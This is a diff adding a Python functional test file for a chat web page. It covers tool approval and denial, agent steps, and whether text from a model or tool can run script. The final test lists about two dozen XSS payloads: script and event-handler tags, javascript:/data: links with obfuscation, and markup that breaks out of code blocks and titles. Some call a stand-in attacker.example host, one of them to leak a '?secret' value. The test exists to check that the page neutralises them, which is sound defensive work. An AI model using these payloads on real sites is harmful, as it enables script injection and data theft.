@@ -1,0 +1,159 @@
+"""Tools, approvals and agents on the chat page, and what a hostile model or tool says."""
+
+import pytest
+
+from tests.functional.browser import needs_browser
+from tests.functional.chat_page.conftest import Page
+from tests.functional.conftest import Server, StartServer, block
+
+pytestmark = needs_browser
+
+TOOL = '''
+__all__ = ["echo"]
+
+
+def echo(text: str) -> str:
+    """Say it again.
+
+    Args:
+        text: What to say.
+    """
+    return text
+'''
+SKILL = "---\ndescription: Repeats what it is told.\n---\nYou repeat.\n"
+CALL = {"tool_call": [{"name": "echo", "args": {"text": "Hear, hear."}}]}
+USE = """
+    press('New conversation');
+    $('settings').click();
+    await until(() => all('#panel input').length >= 2);
+    for (const each of all('#panel input')) each.checked = true;
+    $('policy').value = policy;
+    press('Close', $('panel'));
+    await until(() => $('settings').textContent.includes('(2)'));
+"""
+MADE = """
+    await until(() => answers().length);
+    const inside = all('#messages *, #sidebar *, main > header *');
+    const made = inside.map((each) => each.localName);
+    const attributes = inside.flatMap((each) => [...each.attributes]).map(({ name }) => name);
+    const links = all('#messages a');
+    for (const each of links) each.click();
+    return [
+      [
+        ...made.filter((name) => /script|img|svg|iframe|object|form|style|base|meta/.test(name)),
+        ...attributes.filter((name) => name.startsWith('on') || name === 'style'),
+      ],
+      [...new Set(links.map((each) => new URL(each.href).protocol))],
+      window.hacked ?? null,
+    ];
+"""
+PROBES = [
+    "<script>window.hacked = 1</script>",
+    "<img src=x onerror='window.hacked = 1'>",
+    "<svg onload='window.hacked = 1'></svg>",
+    "<svg><script>window.hacked = 1</script></svg>",
+    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
+    "<iframe src='javascript:parent.hacked = 1'></iframe>",
+    "<details open ontoggle='window.hacked = 1'>x</details>",
+    "<input autofocus onfocus='window.hacked = 1'>",
+    "<a href='javascript:window.hacked = 1'>x</a>",
+    "<math><mtext><style><img src=x onerror='window.hacked = 1'></style></mtext></math>",
+    "<object data='javascript:window.hacked = 1'></object>",
+    "<base href='https://attacker.example/'>",
+    "<meta http-equiv='refresh' content='0;url=javascript:window.hacked=1'>",
+    "<style>@import 'https://attacker.example/x.css';</style>",
+    "<form action='javascript:window.hacked = 1'><button>x</button></form>",
+    "[x](javascript:window.hacked=1)",
+    "[x](JaVaScRiPt:window.hacked=1)",
+    "[x](java\tscript:window.hacked=1)",
+    "[x](data:text/html,<script>parent.hacked=1</script>)",
+    "![x](https://attacker.example/?secret)",
+    "[`</code><script>window.hacked = 1</script>`](vbscript:x)",
+    "```html\n</code></pre><script>window.hacked = 1</script>\n```",
+    "# <img src=x onerror='window.hacked = 1'>",
+    "</title></textarea></script><script>window.hacked = 1</script>",
+]
+
+
+@pytest.fixture(scope="module")
+def server(start_once: StartServer) -> Server:
+    """Return a server with a tool, and an agent that has it too."""
+    server = start_once()
+    tools, agent = server.data_dir / "tools", server.data_dir / "agents" / "parrot"
+    tools.mkdir()
+    agent.mkdir(parents=True)
+    (tools / "repeating.py").write_text(TOOL)
+    (agent / "parrot.py").write_text(TOOL)
+    (agent / "__init__.py").write_text("from .parrot import echo\n__all__ = ['echo']\n")
+    (agent / "SKILL.md").write_text(SKILL)
+    return server
+
+
+async def test_a_tool_runs_once_it_is_approved_also_after_a_reload(page: Page) -> None:
+    message = block(CALL, {"text_message": {"text": "It said so."}}, per_request=True)
+    asked = "await until(() => all('.question').length === 1)"
+    await page.do(f"{USE} await say(text); {asked}", policy="always_confirm", text=message)
+    address = await page.do("return location.hash")
+
+    await page.open(f"/{address}")
+    await page.do(f"{asked}; press('Approve')")
+
+    assert (await page.do("await idle(); return answers()"))[-1] == "It said so."
+    assert await page.do("return all('.call .result').map((e) => e.textContent)") == ["Hear, hear."]
+    assert await page.do("return all('.question').length") == 0
+
+
+async def test_a_tool_that_is_denied_does_not_run(page: Page) -> None:
+    message = block(CALL, {"text_message": {"text": "Then not."}}, per_request=True)
+    await page.do(f"{USE} await say(text)", policy="always_confirm", text=message)
+    await page.do("await until(() => all('.question').length === 1); press('Deny')")
+    assert (await page.do("await idle(); return answers()"))[-1] == "Then not."
+    assert await page.do("return all('.call summary .failed').map((e) => e.textContent)") == [
+        "failed"
+    ]
+
+
+async def test_the_steps_of_an_agent_are_shown_while_it_works(page: Page) -> None:
+    plan, said = {"text_message": {"text": "1. Repeat."}}, {"text_message": {"text": "Repeated."}}
+    call = {"name": "agent", "args": {"agent": "parrot"}}
+    call["args"] |= {"instruction": block(plan, CALL, said, per_request=True)}
+    message = block({"tool_call": [call]}, {"text_message": {"text": "It did."}}, per_request=True)
+    await page.do(f"{USE} await say(text)", policy="never_confirm", text=message)
+    shown = """
+        const steps = () => all('.steps').map((each) => each.textContent);
+        return until(() => steps().find((each) => each.includes('says')));
+    """
+    steps = await page.do(shown)
+    assert all(each in steps for each in ("1. Repeat.", "calls echo", "echo returned", "Repeated."))
+    assert (await page.do("await idle(); return answers()"))[-1] == "It did."
+
+
+async def test_nothing_that_a_model_or_a_tool_says_runs(page: Page) -> None:
+    text = "\n\n".join(PROBES)
+    call = {"tool_call": [{"name": "echo", "args": {"text": text}}]}
+    answer = {"text_message": {"text": text, "reasoning": text}}
+    await page.do(
+        f"$('think').checked = true; {USE} await say(text); await idle()",
+        policy="never_confirm",
+        text=f"{text} {block(call, answer, per_request=True)}",
+    )
+    address = await page.do(
+        """
+        const title = probes.join(' ').slice(0, 200);
+        const changed = await fetch(`/api/v1/sessions/${location.hash.slice(2)}`, {
+          method: 'PATCH',
+          headers: { 'Content-Type': 'application/json' },
+          body: JSON.stringify({ title }),
+        });
+        if (!changed.ok) throw new Error(await changed.text());
+        return location.hash;
+        """,
+        probes=PROBES,
+    )
+    assert await page.do(MADE) == [[], ["https:"], None]
+    await page.open(f"/{address}")
+    await page.do("await until(() => document.title.includes('script'))")
+    assert await page.do(MADE) == [[], ["https:"], None]
+    asked = [each["request"]["url"] for each in page.tab.seen("Network.requestWillBeSent")]
+    assert [url for url in asked if "attacker" in url] == []
+    assert page.crashes == []
